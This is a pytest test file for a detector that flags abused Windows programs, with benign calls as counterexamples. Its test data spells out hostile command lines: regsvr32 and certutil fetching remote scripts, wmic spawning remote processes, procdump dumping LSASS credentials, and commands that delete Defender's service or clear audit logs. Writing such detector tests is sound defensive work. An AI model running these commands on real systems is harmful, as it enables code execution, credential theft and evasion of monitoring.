"""Programs of Windows: which of their calls run, fetch, dump or unguard in another's name."""

from __future__ import annotations

import time

import pytest

from defenseclaw.detection import terms
from defenseclaw.detection.programs import describe, proxies

TOLD = frozenset({"proxy_execution", "proxy_download", "credential_dump", "firewall_off", "log_clear"})


def told(words: str) -> set[str]:
    """Return what the table of proxies has on a call, its words apart by ``|``."""
    argv = tuple(words.split("|"))
    return set(describe(argv[0], argv).traits & TOLD)


@pytest.mark.parametrize(
    ("call", "traits"),
    [
        ("regsvr32|/s|/i:https://files.example.net/x.sct|scrobj.dll", {"proxy_execution"}),
        ("rundll32|advpack.dll,LaunchINFSection|x.inf,A,1", {"proxy_execution"}),
        ("rundll32|\\\\files.example.net\\s\\x.dll,Start", {"proxy_execution"}),
        ("wmic|/node:192.0.2.4|process|call|create|x.exe", {"proxy_execution"}),
        ("bitsadmin|/SetNotifyCmdLine|j|x.exe|NULL", {"proxy_execution"}),
        ("certutil|-verifyctl|-f|https://files.example.net/x", {"proxy_download"}),
        ("mpcmdrun|-DownloadFile|-url|https://files.example.net/x", {"proxy_download"}),
        ("procdump|-ma|LSASS.exe", {"credential_dump"}),
        ("sc|delete|Sense", {"firewall_off"}),
        ("auditpol|/clear|/y", {"firewall_off", "log_clear"}),
        ("bcdedit|/set|testsigning|on", {"firewall_off"}),
        ("fsutil|usn|deletejournal|/D|C:", {"log_clear"}),
    ],
)
def test_a_call_without_an_honest_use_is_told(call, traits):
    assert told(call) == traits


@pytest.mark.parametrize(
    "call",
    [
        "regsvr32|/s|bin\\acme.dll",
        "rundll32|shell32.dll,Control_RunDLL|timedate.cpl",
        "rundll32|url.dll,FileProtocolHandler|https://docs.example.net",
        "wmic|cpu|get|name",
        "bitsadmin|/list",
        "certutil|-hashfile|x.exe|SHA256",
        "procdump|-ma|app.exe",
        "sc|stop|postgresql",
        "auditpol|/get|/category:*",
        "bcdedit|/enum",
        "expand|\\\\wsl$\\Ubuntu\\tmp\\x.cab|out",
    ],
)
def test_ordinary_work_is_not(call):
    assert told(call) == set()


def test_every_trait_of_the_table_is_in_the_vocabulary():
    rows = [row for name in proxies.TABLE for row in proxies._compiled(name)]
    assert {trait for _, traits in rows for trait in traits} <= terms.TRAITS.keys()


@pytest.mark.parametrize("name", ["reg", "wmic", "sc", "rundll32", "netsh"])
def test_hostile_words_cost_little(name):
    words = (name, "add", "windows defender disable start= windefend config /d " * 4000)
    describe(name, words)
    began = time.thread_time()
    describe(name, words)
    assert time.thread_time() - began < 0.2
